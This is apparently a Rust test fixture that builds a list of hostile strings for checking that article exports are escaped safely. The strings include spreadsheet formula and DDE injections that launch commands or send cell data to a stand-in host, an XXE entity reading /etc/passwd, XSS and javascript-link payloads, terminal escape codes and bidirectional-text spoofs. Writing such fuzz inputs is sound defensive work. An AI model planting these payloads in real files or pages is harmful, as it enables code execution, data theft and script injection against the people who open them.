//! Texts that somebody may put into an article to harm whoever opens an export of it: put together
//! from what begins harm and what may stand around it.

/// What a spreadsheet, a terminal, a browser, a shell or a reader of a format may act upon.
const HARM: [&str; 44] = [
    "=1+1",
    "=HYPERLINK(\"https://bad.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://bad.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"https://bad.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://bad.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31m",
    "\u{9d}0;title\u{9c}",
    "\u{7f}\u{8}\u{8}\u{8}",
    "\0nul\0",
    "\u{202e}gnp.exe",
    "\u{2066}\u{2067}isolate",
    "\u{200e}mark\u{200f}",
    "\u{61c}letter mark",
    "\u{feff}order mark",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "</narrative><iati-activity>",
    "<![CDATA[x]]>",
    "]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "-->",
    "[link](javascript:alert(1))",
    "![picture](https://bad.example/x.png)",
    "| a | b |",
    "` `` ```",
    "; comment",
    "2022-01-01 * \"x\"\n    Expenses:Aid:UA  999 USD",
    "include /etc/passwd",
    "option \"title\" \"x\"",
    "_x001B_[31m",
    "{\"a\": \"\\u001b\"}",
];

/// What may stand before or behind it.
const AROUND: [(&str, &str); 5] =
    [("", ""), ("  ", ""), ("a\n", "\nb"), ("\t", "\t"), ("\"", "\",\r\n")];

/// All of them, and a few that are only long or empty of sense.
pub(crate) fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = HARM
        .iter()
        .flat_map(|harm| {
            AROUND.iter().map(move |(before, behind)| format!("{before}{harm}{behind}"))
        })
        .collect();
    texts.push("=".repeat(40_000));
    texts.push("\u{1f4a3}".repeat(20_000));
    texts.push("'".to_owned());
    texts.push("'=1+1".to_owned());
    texts.push("\u{fffe}\u{ffff}\u{10ffff}".to_owned());
    texts.push("a\u{300}\u{300}\u{300}\u{300}\u{489}".to_owned());
    texts
}
